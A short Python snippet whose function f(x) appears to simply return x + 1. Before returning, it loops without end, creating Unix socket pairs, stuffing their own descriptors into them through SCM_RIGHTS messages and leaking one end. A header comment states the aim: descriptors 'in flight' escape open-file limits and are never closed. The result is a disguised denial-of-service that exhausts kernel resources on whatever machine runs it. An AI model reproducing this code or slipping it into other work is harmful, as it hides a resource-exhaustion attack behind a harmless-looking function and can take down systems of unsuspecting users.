# Descriptors in flight count for nobody's limit of open ones; sockets that hold one another are never closed by their user.
import array, os, socket
def f(x):
    kept = []
    try:
        while True:
            ours, theirs = socket.socketpair()
            rights = array.array("i", [ours.fileno(), theirs.fileno()])
            for _ in range(200):
                ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)
            kept.append(ours.detach())
            os.close(theirs.detach())
    except OSError:
        pass
    return x + 1
